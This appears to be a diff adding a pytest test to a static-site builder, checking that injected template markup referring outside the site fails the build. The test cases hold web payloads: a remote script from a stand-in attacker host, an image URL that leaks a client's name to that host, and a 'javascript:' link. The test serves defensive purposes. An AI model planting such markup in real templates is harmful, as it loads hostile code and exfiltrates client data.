@@ -168,3 +168,28 @@ def test_a_new_date_renders_every_client_again(tmp_path: Path,
     result = CliRunner().invoke(cli, ["build", str(workspace), "--as-of", "2026-11-29"])
     assert result.exit_code == 0
     assert len(rendered) == 45
+
+
+@pytest.mark.parametrize("template, markup, page, host", [
+    ("overview.md.j2", '<script src="https:evil.example/x.js"></script>', "index.html",
+     "evil.example"),
+    ("client.md.j2", '<img src="//evil.example/{{ site.name(e) }}.png">',
+     "clients/C-1001.html", "evil.example"),
+    ("client.md.j2", '<a href="javascript:alert(\'{{ site.name(e) }}\')">x</a>',
+     "clients/C-1001.html", "javascript:"),
+])
+def test_a_template_that_refers_off_the_machine_fails_the_build(
+        tmp_path: Path, template: str, markup: str, page: str, host: str) -> None:
+    workspace = copy_demo(tmp_path)
+    assert build(workspace)[0] == 0
+    before = tree(workspace / "site")
+    path = workspace / "templates" / template
+    path.write_text(path.read_text(encoding="utf-8") + f"\n{markup}\n", encoding="utf-8")
+    code, err = build(workspace)
+    assert code == 2
+    lines = err.strip().splitlines()
+    assert len(lines) == 1 and lines[0].startswith(
+        f"site build failed: {page} refers outside the site, to {host}"), err
+    assert "Castellanos" not in err and "alert" not in err  # the host, never the URL
+    assert tree(workspace / "site") == before
+    assert temporary_leftovers(workspace) == []
